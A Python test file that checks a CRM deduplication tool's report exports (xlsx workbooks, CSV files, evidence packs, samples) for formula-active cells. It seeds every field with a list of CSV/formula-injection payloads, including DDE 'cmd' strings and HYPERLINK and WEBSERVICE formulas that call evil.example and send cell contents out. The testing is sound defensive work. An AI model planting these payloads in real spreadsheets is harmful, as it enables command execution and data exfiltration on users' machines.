"""Texts of an account that a spreadsheet could carry out, through every table that we write."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path

import polars as pl
import pytest

from dedupe import language
from dedupe.contracts import SNAPSHOT_TABLES, Account, CheckResult, Column, Metric
from dedupe.report.content import Content, ReportOptions, card_facts
from dedupe.report.csv_files import write_csv_files
from dedupe.report.evidence import Evidence, EvidenceOptions, render_evidence
from dedupe.report.sample import (
    Request,
    draw_sample,
    findings_population,
    render_csv,
    render_xlsx,
    sample_rows,
)
from dedupe.report.sample.facts import Told
from dedupe.report.settings_book import build_book, render_workbook
from dedupe.report.workbook import write_workbook

from .books import active_cells, risky_cells, sheet_names
from .conftest import AT, frame

CALLS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd",
    "%1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)
UNSEEN = ("", " ", "\u00a0", "\ufeff", "\u200b", "\u200d", "\u00ad", "'")
MARKUP = '<r></r></is></c><c r="{}1"><f>1+1</f><v>2</v></c><c r="Z1" t="inlineStr"><is><r></r>'
OTHERS = (
    "http://evil.example/a",
    "internal:Summary!A1",
    "external:C:\\x.xlsx",
    "{=1+1}",
    "_x003D_1+1",
    '"&cmd&"',
    '";=1+1;"',
    ",=1+1",
    MARKUP.format("X"),
    "<r>=1</r>",
    "\x00\x1b]0;=1\x07",
)
PAYLOADS = [unseen + call for unseen in UNSEEN for call in CALLS] + list(OTHERS)


def table(name: str, rows: list[dict[str, object]]) -> pl.LazyFrame:
    told = pl.DataFrame(rows, infer_schema_length=None)
    return SNAPSHOT_TABLES[name].conform(told).lazy()


@pytest.fixture
def account() -> Account:
    """An account whose every name is a payload, its ids too."""
    evil = list(enumerate(PAYLOADS))
    at = {"created_at": AT, "updated_at": AT, "is_deleted": False}
    return Account(
        tables={
            "contacts": table("contacts", [
                {"id": str(n), "name": each, "owner_id": f"u{n}", "created_by": f"u{n}"} | at
                for n, each in evil
            ]),
            "deals": table("deals", [
                {"id": each, "name": each, "owner_id": f"u{n}", "source_id": f"s{n}",
                 "pipeline_id": f"p{n}", "status_id": f"st{n}", "state": "open", "price": -1.0} | at
                for n, each in evil
            ]),
            "users": table("users", [{"id": f"u{n}", "name": each, "is_active": True}
                                     for n, each in evil]),
            "sources": table("sources", [{"id": f"s{n}", "name": each} for n, each in evil]),
            "tags": table("tags", [{"entity": "deal", "id": f"t{n}", "name": each}
                                   for n, each in evil]),
            "fields": table("fields", [{"entity": "deal", "id": f"f{n}", "name": each, "kind": each}
                                       for n, each in evil]),
            "pipelines": table("pipelines", [{"id": f"p{n}", "name": each} for n, each in evil]),
            "statuses": table("statuses", [{"id": f"st{n}", "pipeline_id": f"p{n}", "name": each}
                                           for n, each in evil]),
            "links": table("links", [{"from_entity": "contact", "from_id": str(n),
                                      "to_entity": "deal", "to_id": each} for n, each in evil]),
        },
        crm="amocrm",
        host="demo.amocrm.ru",
        account_id="=1+1",
        not_read={},
    )  # fmt: skip


@pytest.fixture
def findings() -> pl.DataFrame:
    rows: list[dict[str, object]] = []
    for n, each in enumerate(PAYLOADS):
        told = {"group": each, "field": each, "value": each, "proposal": each, "severity": "error"}
        rows += [
            {"code": "PHN301", "entity": "contact", "record_id": str(n)} | told,
            {"code": "TSK101", "entity": "deal", "record_id": each} | told,
            {"code": "TAG101", "entity": "tag", "record_id": f"t{n}"} | told | {"field": "name"},
        ]
        if n < len(CALLS):
            rows.append({"code": each, "entity": each, "record_id": each} | told)
    return frame(rows)  # type: ignore[arg-type]


@pytest.fixture
def metrics() -> tuple[Metric, ...]:
    """Tables whose names, titles, texts and charts are payloads."""
    rows = pl.DataFrame({"a": PAYLOADS, "b": PAYLOADS, "n": range(len(PAYLOADS))})
    made = []
    for n, each in enumerate(CALLS):
        columns = tuple(Column(name, each, kind) for name, kind in
                        (("a", "text"), ("b", "person"), ("n", "count")))  # fmt: skip
        made.append(
            Metric(name=each, title=each, note=each, columns=columns, rows=rows, values=("n",),
                   chart=("bars", "line", "pareto", "funnel")[n % 4],
                   code=("FLD001", "SRC001", each)[n % 3], entity=each)
        )  # fmt: skip
    return tuple(made)


@pytest.fixture
def told(
    content: Content, account: Account, findings: pl.DataFrame, metrics: tuple[Metric, ...]
) -> Content:
    own = [CheckResult(code=c, entity=e, status="checked", found=1, base=1, share=1.0, reason=c)
           for c, e in findings.select("code", "entity").unique().sort("code").rows()]  # fmt: skip
    missed = [CheckResult(code=c, entity=c, status="not_checked", reason=c) for c in CALLS]
    summary = replace(content.summary, checks=(*own, *missed), scan_id=CALLS[0], currency=CALLS[1],
                      account_id=CALLS[2], baseline=CALLS[3])  # fmt: skip
    return replace(content, summary=summary, findings=findings.lazy(), metrics=metrics,
                   cards=card_facts(account), has_names=True)  # fmt: skip


@pytest.mark.parametrize("lang", ["en", "ru"])
@pytest.mark.parametrize("shown", [False, True], ids=["hidden", "shown"])
def test_no_cell_of_the_workbook_is_active(
    lang: str, shown: bool, told: Content, tmp_path: Path
) -> None:
    language.use(lang)
    path = tmp_path / "report.xlsx"
    write_workbook(replace(told, options=ReportOptions(show_values=shown)), path)
    assert active_cells(path.read_bytes()) == []
    names = sheet_names(path)
    assert len({name.lower() for name in names}) == len(names)
    assert not [name for name in names if name[0] in "=+-@|%'\t"]


@pytest.mark.parametrize("lang", ["en", "ru"])
@pytest.mark.parametrize("shown", [False, True], ids=["hidden", "shown"])
def test_no_cell_of_the_csv_files_is_active(
    lang: str, shown: bool, told: Content, tmp_path: Path
) -> None:
    language.use(lang)
    write_csv_files(replace(told, options=ReportOptions(show_values=shown)), tmp_path / "csv")
    files = sorted((tmp_path / "csv").iterdir())
    assert len(files) > 20
    for file in files:
        text = file.read_bytes().decode("utf-8")
        assert risky_cells(text) == []
        assert file.stem.replace("_", "").replace("-", "").isalnum()


def test_no_cell_of_an_evidence_pack_is_active(
    told: Content, account: Account, findings: pl.DataFrame
) -> None:
    check = told.registry["PHN301"]
    pack = render_evidence(
        Evidence(check=check, summary=told.summary, account=account, metrics=told.metrics,
                 findings=findings.filter(pl.col("code") == "PHN301"),
                 options=EvidenceOptions(show_values=True, n=1000))
    )  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(pack)) as packed:
        tables = [
            packed.read(name).decode("utf-8") for name in packed.namelist() if name.endswith(".csv")
        ]
    assert len(tables) >= 5
    assert [cell for text in tables for cell in risky_cells(text)] == []


def test_no_cell_of_a_sample_is_active(account: Account, findings: pl.DataFrame) -> None:
    drawn = draw_sample(
        findings_population(findings, account), Request(code="TSK101", n=500, seed=1)
    )
    values = pl.DataFrame(schema={"entity": pl.String, "record_id": pl.String, "value": pl.String})
    told = Told(scan_id="=1", crm="amocrm", host="demo.amocrm.ru", findings=findings, values=values,
                account=account, show_values=True)  # fmt: skip
    sample = sample_rows(drawn, told)
    raw = render_xlsx(sample)
    # The links of a sample are addresses of cards, and there are none of ids that are no numbers.
    assert active_cells(raw) == []
    assert risky_cells(render_csv(sample).decode("utf-8")) == []


def test_no_cell_of_the_settings_is_active(account: Account) -> None:
    assert active_cells(render_workbook(build_book(account))) == []
